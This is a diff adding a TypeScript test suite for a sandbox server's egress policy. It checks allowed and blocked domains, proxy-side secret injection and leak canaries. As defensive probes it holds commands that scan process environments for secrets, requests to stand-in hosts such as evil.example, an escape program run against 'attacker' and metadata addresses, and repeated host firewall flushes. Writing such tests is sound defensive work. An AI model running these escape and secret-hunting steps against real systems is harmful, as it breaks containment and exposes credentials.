@@ -1,0 +1,334 @@
+/** Outbound policies of sandboxes from end to end: a whole server, real machines, the small internet around it. */
+import { spawn, spawnSync } from 'node:child_process'
+import { readFileSync } from 'node:fs'
+import type { Test } from 'tap'
+import { startWorld, type World } from './internet/world.ts'
+import { until } from './processes.ts'
+import { shell } from './tunnel-net.ts'
+
+const escape = new URL('../programs/escape.py', import.meta.url).pathname
+
+interface Sandbox {
+  readonly name: string
+  readonly url: string
+  readonly address: string
+  /** Standard output and error of a shell line, run as root. */
+  run(command: string): Promise<string>
+}
+
+const policy = {
+  allowedDomains: ['open.example', '*.open.example', 'api.example'],
+  forbiddenDomains: ['bad.open.example'],
+  proxy: {
+    routing: [
+      {
+        destinations: ['api.example'],
+        headers: { 'x-key': 'k-{{SECRET:key}}', 'x-id': '{{FUNC:uuid()}}' },
+        body: { token: '{{SECRET:key}}' },
+        secrets: { key: 'hush-hush' },
+      },
+    ],
+  },
+}
+
+const make = async ({ server }: World, name: string, network?: object): Promise<Sandbox> => {
+  const { call, until } = server
+  const made = await call('POST', '/v0/sandboxes', {
+    metadata: { name },
+    spec: { runtime: { image: 'base', memory: 1024 }, ...(network ? { network } : {}) },
+  })
+  if (made.status !== 200) throw new Error(`no sandbox: ${made.text}`)
+  const { metadata } = await until(name, ({ status }) => status === 'DEPLOYED')
+  // The address is the gateway's, which may have another port after a restart.
+  const run = async (command: string): Promise<string> => {
+    const { body, text } = await call('POST', `/default/sandboxes/${name}/process`, {
+      command,
+      waitForCompletion: true,
+      timeout: 90,
+    })
+    return body?.logs?.trim() ?? text
+  }
+  const address = /inet (\S+)\//.exec(await run('ip -4 addr show dev eth0'))?.[1] ?? ''
+  return { name, url: metadata.url, address, run }
+}
+
+const put = ({ server }: World, { name }: Sandbox, network: object | undefined) =>
+  server.call('PUT', `/v0/sandboxes/${name}`, { spec: { network } })
+
+const quoted = (text: string): string => `'${text.replaceAll("'", `'"'"'`)}'`
+
+/** A TLS connection that nobody on the way reads, made while it is allowed and used after a file is there. */
+const lateRequest = `
+import os, socket, ssl, time
+context = ssl.create_default_context()
+connection = context.wrap_socket(socket.create_connection(("open.example", 443)), server_hostname="open.example")
+print("open", flush=True)
+while not os.path.exists("/root/go"): time.sleep(0.02)
+try:
+    connection.sendall(b"GET /too-late HTTP/1.1\\r\\nHost: open.example\\r\\n\\r\\n")
+    print("answered" if connection.recv(100) else "cut")
+except OSError:
+    print("cut")
+`
+
+/** Packets that the world has seen for addresses that nobody may reach, by name. */
+const forbidden = { attacker: '198.51.100.66', metadata: '169.254.169.254', private: '10.0.0.5', shared: '100.64.0.9' }
+
+const countPackets = (): void => {
+  for (const address of Object.values(forbidden)) shell(`iptables -A INPUT -d ${address} -i w0`)
+  // Questions of names come from the host's resolver only.
+  shell('iptables -A INPUT -i w0 ! -s 10.250.0.2')
+}
+
+const packets = (): Record<string, number> => {
+  const lines = shell('iptables -vxnL INPUT').split('\n').slice(2)
+  const names = [...Object.keys(forbidden), 'of others']
+  return Object.fromEntries(names.map((name, at) => [name, Number(lines[at]?.trim().split(/\s+/)[0])]))
+}
+
+const upload = async ({ run }: Sandbox, file: string, path: string): Promise<void> => {
+  const text = readFileSync(file).toString('base64')
+  await run(`echo ${text} | base64 -d > ${path}`)
+}
+
+/** Arguments of the program: who the proxy is, what is not to be reached. */
+const escapeArgs = (world: World, proxy: string, neighbour: Sandbox, prefix: string): string[] => {
+  const api = new URL(world.server.url)
+  return [prefix, ...proxy.split(':'), api.hostname, api.port, neighbour.address]
+}
+
+/** A namespace on the box that has the sandbox's address. */
+const namespaceOf = ({ server }: World, { address }: Sandbox): string => {
+  const all = shell(`ls /run/netns | grep ${server.names.netnsPrefix}`).trim().split('\n')
+  const found = all.find(name => shell(`ip -n ${name} -4 addr show dev eth0`).includes(` ${address}/`))
+  if (!found) throw new Error(`nobody has ${address}`)
+  return found
+}
+
+export const outboundSuite = async (t: Test, runtime: string): Promise<void> => {
+  const world = await startWorld(t, { HUTCH_RUNTIME: runtime, HUTCH_STANDBY_SECONDS: '600' })
+  const { server, reached } = world
+  countPackets()
+  const held = await make(world, 'held', policy)
+  const free = await make(world, 'free')
+  const proxy = await held.run('echo ${HTTP_PROXY#http://}')
+  const get = (url: string, more = '') => held.run(`curl -sS -m 10 ${more} ${url}`)
+  const direct = '--noproxy "*"'
+
+  await t.test('what is allowed passes, by the proxy and past it', async t => {
+    for (const how of ['', direct]) {
+      t.match(await get('http://open.example/plain', how), '"url":"/plain"')
+      t.match(await get('https://www.open.example/tls', how), '"url":"/tls"')
+    }
+    t.equal(
+      await held.run('python3 -c \'import urllib.request as u; print(u.urlopen("https://open.example/py").status)\''),
+      '200',
+    )
+    t.equal(await held.run('node -e \'fetch("https://open.example/node").then(r => console.log(r.status))\''), '200')
+  })
+
+  await t.test('what is not is answered with 403', async t => {
+    for (const url of ['http://evil.example/', 'http://bad.open.example/', 'https://evil.example/'])
+      t.match(await get(url, '-i'), /403 Forbidden[^]*Proxy-Error: firewall_blocked/i, url)
+    t.match(await held.run('getent hosts evil.example || echo unknown'), 'unknown')
+    const tunnel = (name: string) =>
+      server.call('PUT', `/default/sandboxes/${name}/network/tunnel/config`, { config: 'x' })
+    t.match(await tunnel('held'), { status: 409, body: { error: /is held to an outbound policy; a tunnel is not/ } })
+    t.equal((await tunnel('free')).status, 422, 'its daemon looks at it')
+    t.match(
+      await get('https://evil.example/', `-ik --resolve evil.example:443:203.0.113.10 ${direct}`),
+      /403[^]*firewall_blocked/,
+    )
+  })
+
+  await t.test('secrets are put in on the way, and are nowhere inside', async t => {
+    const answer = await get(
+      'https://api.example/v1',
+      `-i -H 'content-type: application/json' -d '{"a":1,"note":"{{SECRET:key}}"}'`,
+    )
+    t.match(answer, '"x-key":"k-hush-hush"')
+    t.match(answer, /token\\":\\"hush-hush/)
+    t.match(answer, /x-svc-func-x-id: uuid=/i)
+    t.match(
+      await get('https://open.example/no', `-H 'x-mine: {{SECRET:key}}'`),
+      '{{SECRET:key}}',
+      'for its destinations only',
+    )
+    t.notMatch(
+      await held.run(
+        'cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"; grep -rl hush-hush /etc /run /root /tmp 2>/dev/null',
+      ),
+      'hush',
+    )
+    t.notMatch((await server.call('GET', '/v0/sandboxes/held?show_secrets=true')).text, 'hush')
+    t.notMatch(server.output(), 'hush')
+  })
+
+  await t.test('programs trust what is opened', async t => {
+    const tools = {
+      curl: 'curl -sS -m 10 https://api.example/tool-curl',
+      wget: 'wget -qO- -T 10 https://api.example/tool-wget',
+      git: 'git ls-remote https://api.example/tool-git',
+      pip: 'pip3 download --no-input --retries 0 --timeout 10 -i https://api.example/tool-pip x',
+      npm: 'cd /tmp && npm view tool-npm --registry=https://api.example/ --fetch-retries=0',
+      apt: `echo 'deb [trusted=yes] https://api.example/tool-apt x main' > /tmp/list; apt-get update -o Dir::Etc::sourcelist=/tmp/list -o Dir::Etc::sourceparts=- -o Acquire::Retries=0`,
+      node: `node -e 'fetch("https://api.example/tool-node")'`,
+      python: `python3 -c 'import urllib.request as u; u.urlopen("https://api.example/tool-python")'`,
+      openssl: `sh -c 'printf "GET /tool-openssl HTTP/1.1\\r\\nHost: api.example\\r\\nConnection: close\\r\\n\\r\\n" | timeout 10 openssl s_client -quiet -verify_return_error -servername api.example -connect api.example:443'`,
+    }
+    for (const [name, command] of Object.entries(tools)) {
+      const said = await held.run(command)
+      t.ok(reached(`tool-${name}`).length > 0, `${name}: ${said}`)
+    }
+  })
+
+  await t.test('as root inside, there is no other way out', async t => {
+    await upload(held, escape, '/root/escape.py')
+    await upload(free, escape, '/root/escape.py')
+    const before = packets()
+    const tried = (await held.run(`python3 /root/escape.py ${escapeArgs(world, proxy, free, 'esc').join(' ')}`)).split(
+      ' ',
+    )
+    t.ok(tried.length > 45, `${tried.length} attempts: ${tried.slice(0, 3).join(' ')} …`)
+    t.same(reached('esc-'), [])
+    t.same(packets(), before, 'not one packet')
+    // The same program where nothing holds it: the proof that it would have been noticed.
+    await free.run(`python3 /root/escape.py ${escapeArgs(world, proxy, free, 'open').join(' ')}`)
+    const out = new Set(reached('open-').map(({ host, text }) => /open-[a-z-]+/.exec(`${host} ${text}`)?.[0]))
+    for (const name of [
+      'tcp-to-an-address',
+      'tls-with-an-allowed-name',
+      'udp-to-an-address',
+      'quic',
+      'dns-to-another-resolver',
+    ])
+      t.ok(out.has(`open-${name}`), `${name} is noticed`)
+    t.ok((packets()['attacker'] ?? 0) > (before['attacker'] ?? 0))
+  })
+
+  await t.test('nor for who has taken over the whole network inside', async t => {
+    const netns = namespaceOf(world, held)
+    const args = escapeArgs(world, proxy, free, 'hijack')
+    const before = packets()
+    const result = spawnSync('nsenter', [`--net=/run/netns/${netns}`, 'python3', escape, ...args], {
+      encoding: 'utf8',
+      timeout: 120_000,
+    })
+    t.match(result.stdout, 'a-gateway-of-its-own', result.stderr)
+    t.same(reached('hijack-'), [])
+    t.same(packets(), before, 'not one packet')
+  })
+
+  await t.test('nor while somebody has flushed the firewall of the box', async t => {
+    const one = await make(world, 'one', { proxy: { allowedDomains: ['open.example'] } })
+    await upload(one, escape, '/root/escape.py')
+    const before = packets()
+    // Again and again: the server mends it.
+    const flush =
+      'for i in $(seq 100); do iptables -w -F; iptables -w -t nat -F; iptables -w -t raw -F; sleep 0.1; done'
+    const flushing = spawn('nsenter', ['--net=/run/netns/box', 'sh', '-c', flush], { stdio: 'ignore' })
+    await one.run(`python3 /root/escape.py ${escapeArgs(world, proxy, free, 'flushed').join(' ')}`)
+    flushing.kill('SIGKILL')
+    // The box itself answers for its own addresses: that is the fence's, not the policy's.
+    t.same(reached('flushed-'), [])
+    t.same(packets(), before, 'not one packet')
+    await server.call('DELETE', '/v0/sandboxes/one')
+    await until('fences', async () =>
+      spawnSync('nsenter', ['--net=/run/netns/box', 'iptables', '-S', server.names.chain]).stdout.includes('devgroup'),
+    )
+  })
+
+  await t.test('a new policy holds when the update is answered', async t => {
+    const two = await make(world, 'two', { proxy: { allowedDomains: ['open.example'] } })
+    const read = () => two.run('curl -sS -m 10 -o /dev/null -w "%{http_code}" https://open.example/x || true')
+    t.equal(await read(), '200')
+    await two.run(`nohup python3 -c ${quoted(lateRequest)} > /root/late 2>&1 &`)
+    await until('a connection that is open', async () => (await two.run('cat /root/late')).includes('open'))
+    t.equal((await put(world, two, { proxy: { allowedDomains: ['www.open.example'] } })).status, 200)
+    t.match(await read(), /^(000)?.*403/s)
+    await two.run('touch /root/go; sleep 1')
+    t.match(await two.run('cat /root/late'), 'cut')
+    t.same(reached('/too-late'), [], 'what was open when it was allowed has ended')
+    t.equal((await put(world, two, undefined)).status, 200)
+    t.equal(
+      await two.run('curl -sS -m 10 -o /dev/null -w "%{http_code}" http://evil.example/x'),
+      '200',
+      'cleared: all passes',
+    )
+    t.match(
+      await two.run('ping -c 1 -W 1 203.0.113.10 >/dev/null 2>&1 && echo out || echo stays'),
+      'stays',
+      'but by the proxy only',
+    )
+    await server.call('DELETE', '/v0/sandboxes/two')
+  })
+
+  await t.test('every decision can be read, and a list learnt from a record', async t => {
+    const learner = await make(world, 'learner', { proxy: { mode: 'record', forbiddenDomains: ['evil.example'] } })
+    const events = `/v0/sandboxes/learner/egress/events`
+    const live = await fetch(new URL(`${events}?follow=true`, server.url), {
+      headers: { authorization: `Bearer ${server.key}` },
+    })
+    t.equal(await learner.run('curl -sS -m 10 -o /dev/null -w "%{http_code}" http://evil.example/seen'), '200')
+    await learner.run('curl -sS -m 10 https://open.example/too')
+    const first = (await server.call('GET', events)).body
+    t.match(
+      first.data.find(({ kind }: { kind: string }) => kind === 'request'),
+      {
+        verdict: 'would_block',
+        reason: 'forbidden',
+        rule: 'evil.example',
+        host: 'evil.example',
+        method: 'GET',
+        path: '/seen',
+      },
+    )
+    const reader = live.body?.getReader()
+    const piece = new TextDecoder().decode((await reader?.read())?.value)
+    t.match(piece, /^id: 1\ndata: \{/)
+    await reader?.cancel()
+    t.match((await server.call('GET', '/v0/sandboxes/learner/egress/learned')).body, {
+      allowedDomains: ['evil.example', 'open.example'],
+      complete: true,
+    })
+    const strict = { canaries: { bait: 'canary-value-1' }, canary: 'strict', forbiddenDomains: ['evil.example'] }
+    await put(world, learner, { proxy: strict })
+    await learner.run('curl -sSk -m 10 -d "x=canary-value-1" https://open.example/leak')
+    const later = (await server.call('GET', `${events}?after=${first.next}`)).body.data
+    t.match(
+      later.find(({ kind }: { kind: string }) => kind === 'policy'),
+      { reason: 'closed', detail: 'mode enforce' },
+    )
+    t.match(
+      later.find(({ kind }: { kind: string }) => kind === 'canary'),
+      { detail: 'bait', host: 'open.example' },
+    )
+    t.notMatch(JSON.stringify(later), 'canary-value-1')
+    await put(world, learner, undefined)
+    const last = (await server.call('GET', `${events}?after=${first.next}`)).body.data.at(-1)
+    t.match(last, { kind: 'policy', reason: 'opened', detail: 'no longer forbidden: evil.example' })
+    t.equal((await server.call('GET', '/v0/sandboxes/free/egress/events')).status, 404, 'nothing holds that one')
+    await server.call('DELETE', '/v0/sandboxes/learner')
+  })
+
+  await t.test('without the server nothing leaves, and with it again the same policy holds', async t => {
+    const three = await make(world, 'three', { proxy: { allowedDomains: ['open.example'] } })
+    const marker =
+      'curl -s -m 3 http://open.example/while-down; curl -s -m 3 http://evil.example/while-down; curl -s -m 3 --noproxy "*" http://203.0.113.10/while-down'
+    await three.run(`nohup sh -c 'for i in $(seq 40); do ${marker}; sleep 0.1; done' >/dev/null 2>&1 & echo`)
+    const pid = await three.run('nohup sleep 1000 >/dev/null 2>&1 & echo $!')
+    await server.kill()
+    world.log.entries.length = 0
+    await new Promise(resolve => setTimeout(resolve, 3_000))
+    t.same(reached('while-down'), [], 'nothing passes while nobody decides')
+    await server.start()
+    const status = 'curl -sS -m 10 -o /dev/null -w "%{http_code}" http://open.example/again'
+    t.equal(await three.run(status), '200')
+    t.equal(await three.run(`kill -0 ${pid} && echo lives`), 'lives', 'the sandbox has not been restarted')
+    t.match(await three.run('curl -sS -m 10 -i http://evil.example/again'), 'firewall_blocked')
+    t.equal(reached('evil.example').length, 0)
+    await server.call('DELETE', '/v0/sandboxes/three')
+  })
+
+  for (const { name } of [held, free]) await server.call('DELETE', `/v0/sandboxes/${name}`)
+}
